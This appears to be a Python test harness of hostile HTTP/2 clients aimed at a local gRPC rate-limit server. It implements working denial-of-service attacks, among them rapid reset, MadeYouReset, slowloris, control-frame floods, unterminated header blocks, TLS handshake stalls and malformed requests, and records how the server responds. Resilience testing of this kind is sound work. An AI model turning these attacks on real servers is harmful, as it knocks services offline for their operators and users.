#!/usr/bin/python3
"""Hostile HTTP/2 clients, built on python3-h2's stack (h2, hpack, hyperframe): an implementation
independent of the server under test. Each attack prints one JSON object on stdout.

  h2-attack.py flood <port> <ping|settings> <connections> <seconds>
  h2-attack.py slowloris <port> <connections> <seconds>
  h2-attack.py headerblock <port> <connections> <kilobytes> <seconds>
  h2-attack.py nostream <port> <connections> <seconds>
  h2-attack.py rapidreset <port> <streams>
  h2-attack.py malformed <port> <case>
  h2-attack.py ctlflood <port> <windowupdate|emptydata|priority> <connections> <seconds>
  h2-attack.py madeyoureset <port> <streams>
  h2-attack.py idlehold <port> <connections> <seconds> <source address>
  h2-attack.py slowstreams <port> <connections> <streams> <seconds>
  h2-attack.py tlsstall <port> <connections> <seconds>

An attack that holds connections prints READY on stderr once they are all open.

The result names, per connection, how the server ended it: the GOAWAY error code, "closed" (closed
without one) or "open"; for a malformed request, the RST_STREAM or GOAWAY code the server answered.
"""
import json
import select
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events
import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
PATH = '/envoy.service.ratelimit.v3.RateLimitService/ShouldRateLimit'
GOOD = [
    (':method', 'POST'),
    (':scheme', 'http'),
    (':path', PATH),
    (':authority', 'floodgate'),
    ('content-type', 'application/grpc'),
    ('te', 'trailers'),
]
# A RateLimitRequest { domain: "api", descriptors: [{ entries: [{ key: "remote_address", value: "1" }] }] },
# gRPC-framed.
ENTRY = b'\x0a\x0eremote_address\x12\x011'
DESCRIPTOR = b'\x0a' + bytes([len(ENTRY)]) + ENTRY
MESSAGE = b'\x0a\x03api\x12' + bytes([len(DESCRIPTOR)]) + DESCRIPTOR
GRPC_MESSAGE = b'\x00' + len(MESSAGE).to_bytes(4, 'big') + MESSAGE


def connect(port, source=None):
    s = socket.create_connection(('127.0.0.1', port), source_address=None if source is None else (source, 0))
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


def client():
    config = h2.config.H2Configuration(
        client_side=True,
        header_encoding='utf-8',
        validate_outbound_headers=False,
        normalize_outbound_headers=False,
        validate_inbound_headers=False,
    )
    conn = h2.connection.H2Connection(config=config)
    conn.initiate_connection()
    return conn


class Reader:
    """Parses what the server sends with hyperframe; remembers GOAWAY and RST_STREAM codes."""

    def __init__(self):
        self.buf = b''
        self.preface_done = True
        self.goaway = None
        self.resets = {}
        self.frames = 0
        self.headers = set()

    def feed(self, data):
        self.buf += data
        while len(self.buf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
            if len(self.buf) < 9 + length:
                break
            frame.parse_body(memoryview(self.buf[9:9 + length]))
            self.buf = self.buf[9 + length:]
            self.frames += 1
            if isinstance(frame, GoAwayFrame) and self.goaway is None:
                self.goaway = frame.error_code
            elif isinstance(frame, RstStreamFrame):
                self.resets.setdefault(frame.stream_id, frame.error_code)
            elif isinstance(frame, HeadersFrame):
                self.headers.add(frame.stream_id)


def drain(sock, reader, seconds):
    """Reads until the server closes or `seconds` pass; returns True if it closed."""
    deadline = time.monotonic() + seconds
    sock.setblocking(False)
    while True:
        left = deadline - time.monotonic()
        if left <= 0:
            return False
        ready, _, _ = select.select([sock], [], [], left)
        if not ready:
            continue
        try:
            data = sock.recv(1 << 20)
        except (ConnectionResetError, BrokenPipeError):
            return True
        except BlockingIOError:
            continue
        if not data:
            return True
        reader.feed(data)


def drain_all(socks, readers, seconds):
    """Reads every socket until the server closes it or `seconds` pass; returns which closed."""
    closed = [False] * len(socks)
    deadline = time.monotonic() + seconds
    for s in socks:
        s.setblocking(False)
    while not all(closed):
        left = deadline - time.monotonic()
        if left <= 0:
            break
        live = [s for i, s in enumerate(socks) if not closed[i]]
        ready, _, _ = select.select(live, [], [], min(left, 0.2))
        for r in ready:
            i = socks.index(r)
            try:
                data = r.recv(1 << 20)
            except (ConnectionResetError, BrokenPipeError, OSError):
                data = b''
            if not data:
                closed[i] = True
            else:
                readers[i].feed(data)
    return closed


def outcome(reader, closed):
    if reader.goaway is not None:
        return str(reader.goaway)
    return 'closed' if closed else 'open'


def tally(outcomes):
    counts = {}
    for o in outcomes:
        counts[o] = counts.get(o, 0) + 1
    return counts


def flood_unit(kind):
    """The frame a flood repeats, and what opens the stream it needs (if any)."""
    if kind == 'ping':
        return PingFrame(0, b'12345678').serialize(), b''
    if kind == 'settings':
        return SettingsFrame(0).serialize(), b''
    if kind == 'windowupdate':
        return WindowUpdateFrame(0, window_increment=1).serialize(), b''
    if kind == 'priority':
        return PriorityFrame(3, depends_on=0, stream_weight=15).serialize(), b''
    if kind == 'emptydata':
        opening = HeadersFrame(1, hpack.Encoder().encode(GOOD))
        opening.flags.add('END_HEADERS')
        return DataFrame(1, b'').serialize(), opening.serialize()
    raise SystemExit('unknown flood ' + kind)


def flood(port, kind, connections, seconds, drain_seconds=5):
    """Connections that send one kind of frame as fast as they can and read nothing, then read."""
    unit, opening = flood_unit(kind)
    socks = []
    for _ in range(connections):
        s = connect(port)
        conn = client()
        s.sendall(conn.data_to_send() + opening)
        s.setblocking(False)
        socks.append(s)
    burst = unit * 1000
    sent = [0] * connections
    dead = [False] * connections
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and not all(dead):
        live = [s for i, s in enumerate(socks) if not dead[i]]
        _, writable, _ = select.select([], live, [], 0.05)
        for s in writable:
            i = socks.index(s)
            try:
                sent[i] += s.send(burst)
            except (BrokenPipeError, ConnectionResetError, OSError):
                dead[i] = True
    readers = [Reader() for _ in socks]
    closed = drain_all(socks, readers, drain_seconds)
    outcomes = [outcome(r, c) for r, c in zip(readers, closed)]
    for s in socks:
        s.close()
    return {'outcomes': tally(outcomes), 'framesSent': sum(sent) // len(unit)}


def madeyoureset(port, streams, seconds=30):
    """MadeYouReset (CVE-2025-8671): complete calls, each followed by a frame that makes the server reset
    its stream (WINDOW_UPDATE of 0), so the client is never the one that resets; at most `streams` calls
    or `seconds`."""
    deadline = time.monotonic() + seconds
    s = connect(port)
    conn = client()
    encoder = hpack.Encoder()
    s.sendall(conn.data_to_send())
    reader = Reader()
    sent = 0
    closed = False
    stream_id = 1
    batch = 100
    while sent < streams and reader.goaway is None and not closed and time.monotonic() < deadline:
        out = b''
        for _ in range(batch):
            headers = HeadersFrame(stream_id, encoder.encode(GOOD))
            headers.flags.add('END_HEADERS')
            message = DataFrame(stream_id, GRPC_MESSAGE)
            message.flags.add('END_STREAM')
            out += headers.serialize() + message.serialize()
            out += WindowUpdateFrame(stream_id, window_increment=0).serialize()
            stream_id += 2
            sent += 1
        try:
            s.sendall(out)
        except (BrokenPipeError, ConnectionResetError):
            closed = True
            break
        s.setblocking(False)
        try:
            while True:
                data = s.recv(1 << 20)
                if not data:
                    closed = True
                    break
                reader.feed(data)
        except BlockingIOError:
            pass
        except ConnectionResetError:
            closed = True
        s.setblocking(True)
    if not closed:
        closed = drain(s, reader, 2)
    s.close()
    return {'outcome': outcome(reader, closed), 'streamsSent': sent}


def idlehold(port, connections, seconds, source):
    """One client (one source address) that opens many connections, makes a call on each, then holds
    them idle; a connection the server closes is opened again."""
    encoder_block = hpack.Encoder().encode(GOOD)

    def opened():
        try:
            s = connect(port, source)
        except OSError:
            return None
        conn = client()
        headers = HeadersFrame(1, encoder_block)
        headers.flags.add('END_HEADERS')
        message = DataFrame(1, GRPC_MESSAGE)
        message.flags.add('END_STREAM')
        try:
            s.sendall(conn.data_to_send() + headers.serialize() + message.serialize())
        except OSError:
            s.close()
            return None
        s.setblocking(False)
        return s

    socks = [opened() for _ in range(connections)]
    sys.stderr.write('READY\n')
    sys.stderr.flush()
    reopened = 0
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        live = [s for s in socks if s is not None]
        ready, _, _ = select.select(live, [], [], 0.1) if live else ([], [], [])
        for r in ready:
            try:
                data = r.recv(1 << 16)
            except OSError:
                data = b''
            if not data:
                i = socks.index(r)
                r.close()
                socks[i] = opened()
                reopened += 1
        for i, s in enumerate(socks):
            if s is None:
                socks[i] = opened()
    open_now = sum(1 for s in socks if s is not None)
    for s in socks:
        if s is not None:
            s.close()
    return {'outcomes': {'open': open_now}, 'reopened': reopened}


def slowstreams(port, connections, streams, seconds):
    """Connections that each open many streams and send their body one byte a second."""
    socks = []
    for _ in range(connections):
        try:
            s = connect(port)
        except OSError:
            continue
        conn = client()
        encoder = hpack.Encoder()
        encoder.encode(GOOD)
        block = encoder.encode(GOOD)
        first = HeadersFrame(1, hpack.Encoder().encode(GOOD))
        first.flags.add('END_HEADERS')
        out = conn.data_to_send() + first.serialize()
        for i in range(1, streams):
            h = HeadersFrame(1 + 2 * i, block)
            h.flags.add('END_HEADERS')
            out += h.serialize()
        try:
            s.sendall(out)
        except OSError:
            s.close()
            continue
        s.setblocking(False)
        socks.append((s, Reader()))
    sys.stderr.write('READY\n')
    sys.stderr.flush()
    drip = [DataFrame(1 + 2 * i, b'\x00').serialize() for i in range(streams)]
    closed = [False] * len(socks)
    start = time.monotonic()
    while time.monotonic() - start < seconds:
        for i, (s, reader) in enumerate(socks):
            if closed[i]:
                continue
            try:
                s.send(b''.join(drip))
            except BlockingIOError:
                pass
            except OSError:
                closed[i] = True
        end = time.monotonic() + 1
        while time.monotonic() < end:
            live = [s for i, (s, _) in enumerate(socks) if not closed[i]]
            if not live:
                break
            ready, _, _ = select.select(live, [], [], 0.2)
            for r in ready:
                i = next(j for j, (s, _) in enumerate(socks) if s is r)
                try:
                    data = r.recv(1 << 20)
                except OSError:
                    data = b''
                if not data:
                    closed[i] = True
                else:
                    socks[i][1].feed(data)
    outcomes = [outcome(reader, closed[i]) for i, (s, reader) in enumerate(socks)]
    refused = sum(sum(1 for c in reader.resets.values() if c == 7) for _, reader in socks)
    for s, _ in socks:
        s.close()
    return {'outcomes': tally(outcomes), 'refusedStreams': refused}


def tlsstall(port, connections, seconds):
    """Connections that stop halfway through their TLS ClientHello."""
    # A handshake record announcing 512 bytes, and the first bytes of a ClientHello.
    partial = b'\x16\x03\x01\x02\x00' + b'\x01\x00\x01\xfc\x03\x03' + b'\x00' * 16
    socks = []
    for _ in range(connections):
        try:
            s = connect(port)
            s.sendall(partial)
            s.setblocking(False)
            socks.append(s)
        except OSError:
            pass
    sys.stderr.write('READY\n')
    sys.stderr.flush()
    closed = [False] * len(socks)
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and not all(closed):
        live = [s for i, s in enumerate(socks) if not closed[i]]
        ready, _, _ = select.select(live, [], [], 0.2)
        for r in ready:
            try:
                data = r.recv(1 << 16)
            except OSError:
                data = b''
            if not data:
                closed[socks.index(r)] = True
    for s in socks:
        s.close()
    return {'outcomes': tally('closed' if c else 'open' for c in closed)}


def slowloris(port, connections, seconds):
    """Connections that, after the preface, send a frame one byte a second."""
    socks = []
    for _ in range(connections):
        s = connect(port)
        conn = client()
        s.sendall(conn.data_to_send())
        s.setblocking(False)
        socks.append((s, Reader()))
    frame = PingFrame(0, b'slowslow').serialize()
    closed = [False] * connections
    start = time.monotonic()
    step = 0
    while time.monotonic() - start < seconds and not all(closed):
        for i, (s, reader) in enumerate(socks):
            if closed[i]:
                continue
            try:
                s.send(frame[step % len(frame):step % len(frame) + 1])
            except (BrokenPipeError, ConnectionResetError, OSError):
                closed[i] = True
                continue
        step += 1
        end = time.monotonic() + 1
        while time.monotonic() < end:
            ready, _, _ = select.select([s for i, (s, _) in enumerate(socks) if not closed[i]] or [], [], [], 0.2)
            for r in ready:
                i = next(j for j, (s, _) in enumerate(socks) if s is r)
                try:
                    data = r.recv(1 << 16)
                except (ConnectionResetError, OSError):
                    data = b''
                if not data:
                    closed[i] = True
                else:
                    socks[i][1].feed(data)
    outcomes = [outcome(reader, closed[i]) for i, (s, reader) in enumerate(socks)]
    for s, _ in socks:
        s.close()
    return {'outcomes': tally(outcomes), 'seconds': round(time.monotonic() - start, 1)}


def headerblock(port, connections, kilobytes, seconds):
    """Connections that each hold an unfinished header block of about `kilobytes` kB."""
    # Encoded once (pure-python HPACK is slow): every connection's decoder starts empty, so one block
    # serves them all.
    block = hpack.Encoder().encode(GOOD + [('x-pad-%d' % i, 'v' * 4000) for i in range(kilobytes // 4)])
    socks = []
    for n in range(connections):
        s = connect(port)
        conn = client()
        s.sendall(conn.data_to_send())
        first = HeadersFrame(1, block[:16000])
        first.flags.add('END_STREAM')
        out = first.serialize()
        for at in range(16000, len(block), 16000):
            out += ContinuationFrame(1, block[at:at + 16000]).serialize()
        # No END_HEADERS anywhere: the block never ends.
        try:
            s.sendall(out)
        except (BrokenPipeError, ConnectionResetError):
            pass
        socks.append(s)
    readers = [Reader() for _ in socks]
    closed = drain_all(socks, readers, seconds)
    outcomes = [outcome(r, c) for r, c in zip(readers, closed)]
    for s in socks:
        s.close()
    return {'outcomes': tally(outcomes)}


def nostream(port, connections, seconds):
    """Connections that send the preface, then only a PING now and then, and never open a stream."""
    socks = []
    for _ in range(connections):
        s = connect(port)
        conn = client()
        s.sendall(conn.data_to_send())
        socks.append(s)
    readers = [Reader() for _ in socks]
    closed = drain_all(socks, readers, seconds)
    outcomes = [outcome(r, c) for r, c in zip(readers, closed)]
    for s in socks:
        s.close()
    return {'outcomes': tally(outcomes)}


def rapidreset(port, streams, seconds=30):
    """One connection that opens a stream and resets it at once, over and over (CVE-2023-44487), for at
    most `streams` streams or `seconds`."""
    deadline = time.monotonic() + seconds
    s = connect(port)
    conn = client()
    encoder = hpack.Encoder()
    s.sendall(conn.data_to_send())
    reader = Reader()
    sent = 0
    closed = False
    stream_id = 1
    batch = 100
    while sent < streams and reader.goaway is None and not closed and time.monotonic() < deadline:
        out = b''
        for _ in range(batch):
            headers = HeadersFrame(stream_id, encoder.encode(GOOD))
            headers.flags.add('END_HEADERS')
            out += headers.serialize()
            # The DATA frame built by hand: h2 would wait for window it never learns of (this client
            # reads the server's frames with hyperframe only). The server gives 16 MiB at once.
            message = DataFrame(stream_id, GRPC_MESSAGE)
            message.flags.add('END_STREAM')
            out += message.serialize()
            out += RstStreamFrame(stream_id, error_code=8).serialize()
            stream_id += 2
            sent += 1
        try:
            s.sendall(out)
        except (BrokenPipeError, ConnectionResetError):
            closed = True
            break
        s.setblocking(False)
        try:
            while True:
                data = s.recv(1 << 20)
                if not data:
                    closed = True
                    break
                reader.feed(data)
        except BlockingIOError:
            pass
        except ConnectionResetError:
            closed = True
        s.setblocking(True)
    if not closed:
        closed = drain(s, reader, 5)
    s.close()
    return {'outcome': outcome(reader, closed), 'streamsSent': sent}


def malformed(port, case):
    """One request (or frame sequence) that breaks RFC 9113; the server's answer to it."""
    s = connect(port)
    conn = client()
    encoder = hpack.Encoder()
    out = conn.data_to_send()

    def headers(stream_id, fields, end_stream=True, priority=None):
        frame = HeadersFrame(stream_id, encoder.encode(fields))
        frame.flags.add('END_HEADERS')
        if end_stream:
            frame.flags.add('END_STREAM')
        if priority is not None:
            frame.flags.add('PRIORITY')
            frame.depends_on = priority
            frame.stream_weight = 15
        return frame.serialize()

    def data(stream_id, payload, end_stream=True):
        frame = DataFrame(stream_id, payload)
        if end_stream:
            frame.flags.add('END_STREAM')
        return frame.serialize()

    def without(name):
        return [f for f in GOOD if f[0] != name]

    request = {
        'no-method': lambda: headers(1, without(':method')),
        'no-scheme': lambda: headers(1, without(':scheme')),
        'no-path': lambda: headers(1, without(':path')),
        'unknown-pseudo': lambda: headers(1, GOOD + [(':foo', 'bar')]),
        'duplicate-pseudo': lambda: headers(1, GOOD[:3] + [(':path', '/other')] + GOOD[3:]),
        'pseudo-after-regular': lambda: headers(1, [('content-type', 'application/grpc')] + GOOD),
        'uppercase-name': lambda: headers(1, GOOD + [('X-Upper', '1')]),
        'connection-header': lambda: headers(1, GOOD + [('connection', 'keep-alive')]),
        'te-not-trailers': lambda: headers(1, without('te') + [('te', 'gzip')]),
        'content-length-mismatch': lambda: headers(1, GOOD + [('content-length', '100')], end_stream=False)
        + data(1, GRPC_MESSAGE),
        'all-of-the-issue': lambda: headers(1, [(':path', PATH), ('content-type', 'application/grpc'),
                                                ('connection', 'close'), (':foo', 'bar')]),
        'headers-below-last': lambda: headers(5, GOOD, end_stream=False) + data(5, GRPC_MESSAGE)
        + headers(3, GOOD),
        'data-on-closed': lambda: headers(1, GOOD, end_stream=False) + data(1, GRPC_MESSAGE),
        'priority-self': lambda: headers(1, GOOD, end_stream=False) + PriorityFrame(1, depends_on=1).serialize(),
        'headers-priority-self': lambda: headers(1, GOOD, priority=1),
        'window-exceeded': lambda: headers(1, GOOD, end_stream=False)
        + b''.join(data(1, b'\x00' * 16384, end_stream=False) for _ in range(80)),
    }[case]
    out += request()
    s.sendall(out)
    reader = Reader()
    if case == 'data-on-closed':
        # Wait for the answer (the stream is closed both ways), then send more DATA on it.
        deadline = time.monotonic() + 5
        s.setblocking(False)
        while 1 not in reader.headers or len(reader.headers) == 0:
            if time.monotonic() > deadline:
                break
            ready, _, _ = select.select([s], [], [], 0.1)
            if ready:
                reader.feed(s.recv(1 << 16))
        time.sleep(0.1)
        try:
            reader.feed(s.recv(1 << 16))
        except BlockingIOError:
            pass
        s.setblocking(True)
        s.sendall(data(1, b'late'))
    # Then a good request on a new stream: was the connection kept?
    try:
        s.sendall(headers(101, GOOD, end_stream=False) + data(101, GRPC_MESSAGE))
    except (BrokenPipeError, ConnectionResetError):
        pass
    deadline = time.monotonic() + 5
    closed = False
    s.setblocking(False)
    while time.monotonic() < deadline and 101 not in reader.headers and reader.goaway is None:
        ready, _, _ = select.select([s], [], [], 0.1)
        if not ready:
            continue
        try:
            chunk = s.recv(1 << 16)
        except (ConnectionResetError, BlockingIOError):
            chunk = b''
        if not chunk:
            closed = True
            break
        reader.feed(chunk)
    s.close()
    first = min(reader.resets) if reader.resets else None
    return {
        'goaway': reader.goaway,
        'reset': reader.resets.get(first) if first is not None and first < 101 else None,
        'resetStream': first if first is not None and first < 101 else None,
        'answered': sorted(i for i in reader.headers if i < 101),
        'keptServing': 101 in reader.headers,
        'closed': closed,
    }


def main():
    mode, port, *rest = sys.argv[1:]
    port = int(port)
    if mode == 'flood' or mode == 'ctlflood':
        result = flood(port, rest[0], int(rest[1]), float(rest[2]), float(rest[3]) if len(rest) > 3 else 5)
    elif mode == 'madeyoureset':
        result = madeyoureset(port, int(rest[0]), float(rest[1]) if len(rest) > 1 else 30)
    elif mode == 'idlehold':
        result = idlehold(port, int(rest[0]), float(rest[1]), rest[2])
    elif mode == 'slowstreams':
        result = slowstreams(port, int(rest[0]), int(rest[1]), float(rest[2]))
    elif mode == 'tlsstall':
        result = tlsstall(port, int(rest[0]), float(rest[1]))
    elif mode == 'slowloris':
        result = slowloris(port, int(rest[0]), float(rest[1]))
    elif mode == 'headerblock':
        result = headerblock(port, int(rest[0]), int(rest[1]), float(rest[2]))
    elif mode == 'nostream':
        result = nostream(port, int(rest[0]), float(rest[1]))
    elif mode == 'rapidreset':
        result = rapidreset(port, int(rest[0]), float(rest[1]) if len(rest) > 1 else 30)
    elif mode == 'malformed':
        result = malformed(port, rest[0])
    else:
        raise SystemExit('unknown attack ' + mode)
    print(json.dumps(result))


if __name__ == '__main__':
    main()
